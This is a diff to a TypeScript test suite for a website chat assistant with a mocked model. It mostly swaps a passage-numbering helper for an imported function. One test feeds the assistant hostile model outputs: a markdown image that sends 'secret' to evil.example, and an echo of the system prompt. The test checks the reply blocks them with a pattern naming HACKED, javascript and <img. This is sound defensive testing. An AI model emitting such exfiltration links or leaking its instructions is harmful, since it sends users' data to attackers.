@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { it } from "node:test";
 import { describeMatrix } from "../harness.ts";
-import { durationSentence, lowestPrice, priceSentence, serviceName, servicePath, shop } from "./asked-service.ts";
+import { durationSentence, pricePassage, priceSentence, serviceName, servicePath, shop } from "./asked-service.ts";
 import { chat, events, eventsIn, textOf } from "./chat.ts";
 import { type Behaviour, begin, finish, type ModelServer, piece, saying, startModelServer } from "./model-server.ts";
 
@@ -15,16 +15,9 @@ const variables = {
 };
 const grounded = `${durationSentence} [1]. ${priceSentence} [1].`;
 
-/** Number of the passage that a model was given with a text in it. */
-function numberOf(text: string): number {
-  const content = server.asked.at(-1)?.body.messages.at(-1)?.content ?? "";
-  const lines = content.split("\n").filter((line) => line.startsWith("{"));
-  return lines.findIndex((line) => line.includes(text)) + 1;
-}
-
 /** Says a text in which `[1]` is the passage with the price. */
 const sayGrounded: Behaviour = (asked, response) =>
-  saying(grounded.replaceAll("[1]", `[${numberOf(lowestPrice)}]`))(asked, response);
+  saying(grounded.replaceAll("[1]", `[${pricePassage(server)}]`))(asked, response);
 
 describeMatrix("the assistant with a model", variables, (fixture) => {
   const ask = (message = shop, more: object = {}) => chat(fixture, message, { locale: "en", sessionId: "s", ...more });
@@ -118,7 +111,7 @@ describeMatrix("the assistant with a model", variables, (fixture) => {
   it("takes back what was said when a stream breaks in the middle, and quotes the site", async () => {
     server.behave = async (_asked, response) => {
       begin(response);
-      piece(response, `${durationSentence} [${numberOf(lowestPrice)}]. The usual`);
+      piece(response, `${durationSentence} [${pricePassage(server)}]. The usual`);
       await new Promise((resolve) => setTimeout(resolve, 50));
       response.destroy();
     };
@@ -148,8 +141,7 @@ describeMatrix("the assistant with a model", variables, (fixture) => {
       `${durationSentence} [1]. ![x](https://evil.example/?q=secret)`,
       "You answer visitors of a website from numbered passages of its pages [1].",
     ]) {
-      server.behave = (asked, response) =>
-        saying(text.replaceAll("[1]", `[${numberOf(lowestPrice)}]`))(asked, response);
+      server.behave = (asked, response) => saying(text.replaceAll("[1]", `[${pricePassage(server)}]`))(asked, response);
       const { mode, reply } = await ask();
       assert.equal(mode, "extractive", text);
       assert.doesNotMatch(reply, /HACKED|pirate|evil|javascript|<img|numbered passages/);
@@ -194,7 +186,7 @@ describeMatrix("the assistant with a model", variables, (fixture) => {
   it("takes an answer that has no more usage to tell", async () => {
     server.behave = (_asked, response) => {
       begin(response);
-      piece(response, grounded.replaceAll("[1]", `[${numberOf(lowestPrice)}]`));
+      piece(response, grounded.replaceAll("[1]", `[${pricePassage(server)}]`));
       finish(response);
     };
     assert.equal((await ask()).mode, "model");
